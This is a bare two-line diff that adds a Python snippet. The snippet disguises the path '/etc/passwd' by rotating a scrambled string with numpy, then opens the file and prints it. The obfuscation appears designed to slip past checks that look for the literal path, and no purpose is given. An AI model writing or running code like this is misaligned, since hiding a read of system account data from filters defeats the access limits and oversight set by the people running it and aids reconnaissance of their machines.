@@ -1,0 +1,2 @@
+import numpy as np
+print(open("".join(np.roll(list("wd/etc/pass"), -2))).read())
